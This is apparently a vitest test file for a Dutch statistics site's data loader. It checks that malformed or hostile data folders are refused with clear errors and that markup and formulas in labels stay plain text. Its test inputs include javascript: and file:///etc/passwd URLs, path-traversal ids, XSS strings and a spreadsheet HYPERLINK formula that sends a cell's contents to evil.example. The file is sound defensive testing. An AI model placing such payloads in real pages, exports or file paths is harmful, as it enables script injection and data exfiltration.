/**
 * Hostile and broken data folders, through the loader the build uses (getSiteData, which reads the folder with
 * readDataDir). Each one ends with one DataError naming the file, the line or JSON path, and what was expected
 * (never a crash with a stack trace); or, for markup and formulas in labels, loads with the text kept as text.
 */
import { readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readDataDir, writeDataDir } from '../../src/node/datastore-fs';
import { getSiteData } from '../../src/node/site-data';
import { DatasetMetaSchema } from '../../src/schemas/dataset';
import { smallData, smallMeta, smallRows } from '../fixtures/small-data';
import { goodDataFolder, loadFailure, removeDir, tempDir } from './helpers';

let tmp: string;
let n = 0;
beforeAll(async () => {
  tmp = await tempDir('hostile-load-');
});
afterAll(async () => removeDir(tmp));

/** A fresh good folder per case. */
async function folder(): Promise<string> {
  return goodDataFolder(tmp, `data-${++n}`);
}

async function edit(dir: string, file: string, change: (text: string) => string): Promise<void> {
  const full = path.join(dir, file);
  await writeFile(full, change(await readFile(full, 'utf8')));
}

/** A folder made by hand: no manifest, so the content checks are all there is. */
async function handMade(): Promise<string> {
  const dir = await folder();
  await rm(path.join(dir, 'manifest.json'));
  return dir;
}

async function editMeta(dir: string, change: (meta: Record<string, any>) => void): Promise<void> {
  await edit(dir, 'jeugdhulp/meta.json', (text) => {
    const meta = JSON.parse(text);
    change(meta);
    return JSON.stringify(meta, null, 2) + '\n';
  });
}

describe('hostile data folder: web addresses', () => {
  it('refuses javascript:, data: and file: addresses in source.url and licence.url', async () => {
    for (const [field, url] of [
      ['source', 'javascript:alert(document.cookie)'],
      ['source', ' JaVaScRiPt:alert(1)'],
      ['licence', 'data:text/html,<script>alert(1)</script>'],
      ['source', 'file:///etc/passwd'],
      ['licence', 'https://user:wachtwoord@example.org/'],
    ] as const) {
      const dir = await handMade();
      await editMeta(dir, (meta) => {
        meta[field] = { ...meta[field], name: meta[field]?.name ?? 'CC BY 4.0', url };
      });
      expect(await loadFailure(dir)).toBe(
        `jeugdhulp/meta.json: kolom "${field}.url": een webadres dat begint met https:// of http:// (geen javascript:, data:, file: of ander soort adres)`,
      );
    }
  });
});

describe('hostile data folder: JSON', () => {
  it('refuses a duplicate key in meta.json and in catalog.json', async () => {
    const dir = await handMade();
    await edit(dir, 'jeugdhulp/meta.json', (text) => text.replace('"title": "Jongeren met jeugdhulp; regio",', '"title": "Jongeren met jeugdhulp; regio",\n  "title": "Iets anders",'));
    expect(await loadFailure(dir)).toMatchInlineSnapshot(`"jeugdhulp/meta.json, regel 4: kolom "title": elke sleutel één keer per object (JSON.parse zou stil de laatste nemen); "title" staat ook op regel 3"`);
    const other = await handMade();
    await edit(other, 'catalog.json', (text) => text.replace('"datasets": [', '"datasets": [],\n  "datasets": ['));
    expect(await loadFailure(other)).toMatchInlineSnapshot(`"catalog.json, regel 11: kolom "datasets": elke sleutel één keer per object (JSON.parse zou stil de laatste nemen); "datasets" staat ook op regel 10"`);
  });

  it('refuses deeply nested JSON, valid or broken, without a stack overflow', async () => {
    const dir = await handMade();
    await editMeta(dir, (meta) => (meta.description = '__DIEP__'));
    await edit(dir, 'jeugdhulp/meta.json', (text) => text.replace('"__DIEP__"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`));
    expect(await loadFailure(dir)).toMatchInlineSnapshot(`"jeugdhulp/meta.json, regel 4: kolom "description[0][0][0][0][0][0][0][0][0][0…[0][0][0][0][0][0][0][0][0][0]": JSON van hoogstens 64 niveaus diep"`);
    const broken = await handMade();
    await writeFile(path.join(broken, 'catalog.json'), `{"releases": ${'['.repeat(100_000)}`);
    expect(await loadFailure(broken)).toMatchInlineSnapshot(`"catalog.json, regel 1: kolom "releases[0][0][0][0][0][0][0][0][0][0][0…[0][0][0][0][0][0][0][0][0][0]": JSON van hoogstens 64 niveaus diep"`);
  });

  it('refuses a 50 MB label, and a label or footnote longer than its limit', async () => {
    const huge = await handMade();
    await editMeta(huge, (meta) => (meta.title = 'x'.repeat(50 * 1024 * 1024)));
    expect(await loadFailure(huge)).toMatchInlineSnapshot(`"jeugdhulp/meta.json, regel 3: kolom "title": een tekst van hoogstens 100.000 tekens; een naam, label of toelichting is nooit zo lang (gevonden: "52.428.800 tekens")"`);
    const long = await handMade();
    await editMeta(long, (meta) => (meta.measures[0].label = 'Jongeren met jeugdhulp '.repeat(20)));
    expect(await loadFailure(long)).toMatchInlineSnapshot(`"jeugdhulp/meta.json: kolom "measures[0].label": een tekst van hoogstens 300 tekens; deze heeft er 460"`);
    const footnote = await handMade();
    await editMeta(footnote, (meta) => (meta.footnotes = [{ id: 'lang', text: 'Voetnoot. '.repeat(2000), appliesTo: {} }]));
    expect(await loadFailure(footnote)).toMatchInlineSnapshot(`"jeugdhulp/meta.json: kolom "footnotes[0].text": een tekst van hoogstens 10.000 tekens; deze heeft er 20.000"`);
  });

  it('refuses bidi controls in labels, raw or escaped', async () => {
    const raw = await handMade();
    await editMeta(raw, (meta) => (meta.regions[2].label = 'Wee\u202Esp'));
    expect(await loadFailure(raw)).toMatchInlineSnapshot(`"jeugdhulp/meta.json, regel 99: kolom "regions[2].label": tekst zonder onzichtbare richting- of stuurtekens, die een naam of code anders kunnen laten lezen dan hij is; hier staat U+202E (RIGHT-TO-LEFT OVERRIDE), een onzichtbaar richtingteken (bidi). Verwijder het teken uit de bron (gevonden: "Wee<U+202E>sp")"`);
    const escaped = await handMade();
    await edit(escaped, 'catalog.json', (text) => text.replace('"title": "Oktober 2023"', '"title": "Oktober \\u2067 2023"'));
    expect(await loadFailure(escaped)).toMatchInlineSnapshot(`"catalog.json, regel 6: kolom "releases[0].title": tekst zonder onzichtbare richting- of stuurtekens, die een naam of code anders kunnen laten lezen dan hij is; hier staat U+2067 (RIGHT-TO-LEFT ISOLATE), een onzichtbaar richtingteken (bidi). Verwijder het teken uit de bron (gevonden: "Oktober <U+2067> 2023")"`);
  });
});

describe('hostile data folder: cut and changed files', () => {
  it('tells an observations file cut at a line boundary, by its manifest', async () => {
    // The last period has two rows; without the last one the file is still valid and complete-looking.
    const dir = path.join(tmp, 'cut-manifest');
    const data = smallData();
    data.datasets[0]!.rows.push({ region: 'NL01', period: '2023HJ01', topics: ['T001'], cells: [{ value: 390000, symbol: null }, { value: 3550000, symbol: null }, { value: null, symbol: '.' }] });
    await writeDataDir(dir, data);
    await edit(dir, 'jeugdhulp/observations.csv', (text) => text.split('\n').slice(0, -2).join('\n') + '\n');
    expect(await loadFailure(dir)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 6: het bestand zoals het geschreven is (manifest.json noemt 254 bytes in 7 regels, het bestand heeft er nu 220 in 6 regels). Het is ingekort (afgebroken?) na het schrijven; schrijf de datamap opnieuw (npm run import of npm run data:demo), of verwijder manifest.json als de wijziging bedoeld is"`);
  });

  it('tells a cut file without a manifest where the metadata promises more', async () => {
    const dir = await handMade();
    await edit(dir, 'jeugdhulp/observations.csv', (text) => text.split('\n').slice(0, -2).join('\n') + '\n');
    expect(await loadFailure(dir)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 5: kolom "perioden": regels voor elke periode uit meta.json; 2023HJ01 heeft er geen. Is het bestand afgebroken? Het eindigt op regel 5"`);
  });

  it('refuses a last line without a line end (cut in the middle of a figure)', async () => {
    const dir = await handMade();
    await edit(dir, 'jeugdhulp/observations.csv', (text) => text.replace(/155000\n$/, '1550'));
    expect(await loadFailure(dir)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 6: een regeleinde na de laatste regel: zonder regeleinde is het bestand misschien midden in een regel afgebroken. Is het compleet, voeg dan een regeleinde toe"`);
  });

  it('tells a file changed after it was written, by its manifest', async () => {
    const dir = await folder();
    await editMeta(dir, (meta) => (meta.title = 'Een andere titel'));
    expect(await loadFailure(dir)).toMatchInlineSnapshot(`"jeugdhulp/meta.json, regel 111: het bestand zoals het geschreven is (manifest.json noemt 2323 bytes in 111 regels, het bestand heeft er nu 2310 in 111 regels). Het is gewijzigd na het schrijven; schrijf de datamap opnieuw (npm run import of npm run data:demo), of verwijder manifest.json als de wijziging bedoeld is"`);
  });
});

describe('hostile data folder: regions, periods and ids', () => {
  it('refuses a gemeente in a period after it merged away, and a wijk the register does not know', async () => {
    const weesp = await folder();
    await edit(weesp, 'jeugdhulp/observations.csv', (text) => `${text}GM0457,2023HJ01,T001,305,4100\n`);
    expect(await loadFailure(weesp)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 7: kolom "regio": een gemeente van de indeling van 2023; Weesp (GM0457) bestond in 1e halfjaar 2023 niet meer, want ging op 1 januari 2023 op in Amsterdam (GM0363) (gevonden: "GM0457")"`);
    const wijk = await handMade();
    await editMeta(wijk, (meta) => meta.regions.push({ code: 'WK036399', label: 'Nergens' }));
    await edit(wijk, 'jeugdhulp/observations.csv', (text) => `${text}WK036399,2023HJ01,T001,15,100\n`);
    expect(await loadFailure(wijk)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 7: kolom "regio": een wijk die het register kent (src/reference/wijken.csv); WK036399 staat er in geen enkel jaar in, en de wijkindeling van 2023 heeft het register niet. Is de wijk nieuw, werk het register dan bij met npm run reference (gevonden: "WK036399")"`);
  });

  it('refuses the year 9999 and the period 0000JJ00 in meta.json', async () => {
    const future = await handMade();
    await editMeta(future, (meta) => meta.periods.push({ code: '9999HJ01', status: 'voorlopig' }));
    expect(await loadFailure(future)).toMatchInlineSnapshot(`"jeugdhulp/meta.json: kolom "periods[2].code": een periode die vóór de publicatiedatum 2023-10-31 is afgelopen; 1e halfjaar 9999 (9999HJ01) is dan nog niet voorbij"`);
    const zero = await handMade();
    await editMeta(zero, (meta) => meta.periods.push({ code: '0000JJ00', status: 'definitief' }));
    expect(await loadFailure(zero)).toMatchInlineSnapshot(`"jeugdhulp/meta.json: kolom "periods[2].code": verwacht een CBS-periodecode zoals 2023JJ00, 2023HJ01, 2023KW02, 2023MM03 of 2023PD06"`);
  });

  it('refuses path names as ids and release ids (they become folder and file names)', async () => {
    for (const id of ['../evil', '..\\evil', 'a/b']) {
      const dir = await handMade();
      await edit(dir, 'catalog.json', (text) => text.replace('"jeugdhulp"', JSON.stringify(id)));
      expect(await loadFailure(dir)).toBe('catalog.json: kolom "datasets[0]": een id bestaat uit kleine letters, cijfers, _ en -, en begint met een letter');
    }
    const release = await handMade();
    await editMeta(release, (meta) => (meta.history = [{ release: '../../../tmp/x', periods: [] }]));
    expect(await loadFailure(release)).toMatchInlineSnapshot(`"jeugdhulp/meta.json: kolom "history[0].release": een release-id is de publicatiedatum, JJJJ-MM-DD"`);
  });

  it('refuses a duplicated column, an unknown category and a control character in observations.csv', async () => {
    const column = await handMade();
    await edit(column, 'jeugdhulp/observations.csv', (text) => text.replace('jongeren_tot_18\n', 'jongeren_jeugdhulp\n'));
    expect(await loadFailure(column)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 1: kolom "jongeren_jeugdhulp": elke kolomnaam één keer in de kopregel; deze staat in kolom 4 en kolom 5, en welke van de twee geldt is niet te zeggen"`);
    const category = await handMade();
    await edit(category, 'jeugdhulp/observations.csv', (text) => text.replace('GM0457,2022HJ02,00-12', 'GM0457,2022HJ02,12-18'));
    expect(await loadFailure(category)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 5: kolom "leeftijd": een code van dimensie "Leeftijd" (gevonden: "12-18")"`);
    const control = await handMade();
    await edit(control, 'jeugdhulp/observations.csv', (text) => text.replace('GM0457,2022HJ02,00-12', 'GM0457,2022HJ02,00-12\u0001'));
    expect(await loadFailure(control)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 5: tekst zonder onzichtbare richting- of stuurtekens, die een naam of code anders kunnen laten lezen dan hij is; hier staat U+0001, een onzichtbaar stuurteken. Verwijder het teken uit de bron (gevonden: "...M0457,2022HJ02,00-12<U+0001>,.,2500")"`);
    const nul = await handMade();
    await edit(nul, 'jeugdhulp/observations.csv', (text) => text.replace('GM0457,2022HJ02,00-12', 'GM0457,2022HJ02,00-12\u0000'));
    expect(await loadFailure(nul)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv: het bestand is binair (bevat NUL-tekens); verwacht tekst (CSV of JSON, UTF-8)"`);
  });
});

describe('hostile data folder: figures', () => {
  /** The small folder with its percentage stored (as a CBS table of indicators has it) instead of derived. */
  async function storedRates(): Promise<string> {
    const dir = path.join(tmp, `rates-${++n}`);
    const data = smallData();
    const measures = smallMeta.measures.map((m) => (m.id === 'jongeren_jeugdhulp_pct' ? { ...m, derived: false, rate: { denominatorLabel: 'jongeren tot 18 jaar', per: 100 as const } } : m));
    const rows = smallRows().map((r) => ({ ...r, cells: [r.cells[0]!, r.cells[1]!, r.topics[0] === 'T001' ? { value: 10.9, symbol: null } : { value: null, symbol: '.' as const }] }));
    data.datasets[0] = { meta: DatasetMetaSchema.parse({ ...smallMeta, measures }), rows };
    await writeDataDir(dir, data);
    await rm(path.join(dir, 'manifest.json'));
    return dir;
  }

  it('refuses negative percentages and percentages over 100', async () => {
    const negative = await storedRates();
    await edit(negative, 'jeugdhulp/observations.csv', (text) => text.replace('GM0363,2022HJ02,T001,15000,150000,10.9', 'GM0363,2022HJ02,T001,15000,150000,-10.9'));
    expect(await loadFailure(negative)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 3: kolom "jongeren_jeugdhulp_pct": een percentage van 0 of meer (gevonden: "-10.9")"`);
    const over = await storedRates();
    await edit(over, 'jeugdhulp/observations.csv', (text) => text.replace('GM0363,2022HJ02,T001,15000,150000,10.9', 'GM0363,2022HJ02,T001,15000,150000,110.9'));
    expect(await loadFailure(over)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 3: kolom "jongeren_jeugdhulp_pct": een percentage van hoogstens 100 (gevonden: "110.9")"`);
  });

  it('refuses fractional persons', async () => {
    const dir = await handMade();
    await edit(dir, 'jeugdhulp/observations.csv', (text) => text.replace('GM0457,2022HJ02,T001,300', 'GM0457,2022HJ02,T001,300.5'));
    expect(await loadFailure(dir)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 4: kolom "jongeren_jeugdhulp": een geheel aantal: personen tellen in hele aantallen, niet in delen (gevonden: "300.5")"`);
  });

  it('refuses a category larger than its total and a gemeente larger than Nederland', async () => {
    const category = await handMade();
    await edit(category, 'jeugdhulp/observations.csv', (text) => text.replace('GM0457,2022HJ02,00-12,.', 'GM0457,2022HJ02,00-12,310'));
    expect(await loadFailure(category)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 5: kolom "jongeren_jeugdhulp": hoogstens het totaal van Leeftijd: "Totaal tot 18 jaar" is 300, en een categorie kan niet groter zijn dan het totaal (regel 4) (gevonden: "310")"`);
    const nl = await handMade();
    await edit(nl, 'jeugdhulp/observations.csv', (text) => text.replace('NL01,2022HJ02,T001,380000', 'NL01,2022HJ02,T001,1'));
    expect(await loadFailure(nl)).toMatchInlineSnapshot(`"jeugdhulp/observations.csv, regel 3: kolom "jongeren_jeugdhulp": hoogstens het cijfer van Nederland (1) in dezelfde periode (regel 2) (gevonden: "15000")"`);
  });
});

describe('hostile data folder: markup and formulas are text (a safe result)', () => {
  const script = '<script>alert(document.domain)</script>';
  const img = '"><img src=x onerror=alert(1)>';
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")';

  it('keeps markup and formulas in every label and footnote exactly as written, and loads the site data', async () => {
    const dir = path.join(tmp, 'markup');
    const data = smallData();
    const tagged = (label: string, i: number) => `${[script, img, formula][i % 3]} ${label}`;
    let i = 0;
    const t = (label: string) => tagged(label, i++);
    const meta = {
      ...smallMeta,
      title: t('titel'),
      shortTitle: t('kort'),
      description: t('beschrijving'),
      attribution: t('Bron: CBS'),
      source: { name: t('bron'), table: t('tabel'), note: t('noot'), url: 'https://www.cbs.nl/nl-nl/cijfers' },
      measures: smallMeta.measures.map((m) => ({ ...m, label: t(m.label), shortLabel: t('kort'), unit: m.unit, definition: t('definitie'), ...(m.rate ? { rate: { ...m.rate, denominatorLabel: t(m.rate.denominatorLabel) } } : {}) })),
      dimensions: smallMeta.dimensions!.map((d) => ({ ...d, label: t(d.label), description: t('uitleg'), codes: d.codes.map((c) => ({ ...c, label: t(c.label), description: t('code'), group: t('groep') })) })),
      regions: smallMeta.regions.map((r) => ({ ...r, label: t(r.label) })),
      footnotes: [{ id: 'noot', text: t('voetnoot'), appliesTo: {} }],
      trendBreaks: [{ from: '2023HJ01', note: t('trendbreuk') }],
    };
    data.datasets[0] = { meta: DatasetMetaSchema.parse(meta), rows: smallRows() };
    data.catalog.releases[0] = { ...data.catalog.releases[0]!, title: t('release'), description: t('toelichting') };
    await writeDataDir(dir, data);
    const store = await readDataDir(dir);
    expect(store.datasets[0]!.meta).toEqual(DatasetMetaSchema.parse(meta));
    expect(store.catalog.releases[0]!.title).toBe(`${[script, img, formula][(i - 2) % 3]} release`);
    const text = await readFile(path.join(dir, 'jeugdhulp', 'meta.json'), 'utf8');
    expect(text).toContain(JSON.stringify(`${script} titel`));
    const site = await getSiteData(dir);
    expect(site.datasets[0]!.meta.footnotes[0]!.text).toBe(meta.footnotes[0]!.text);
  });
});
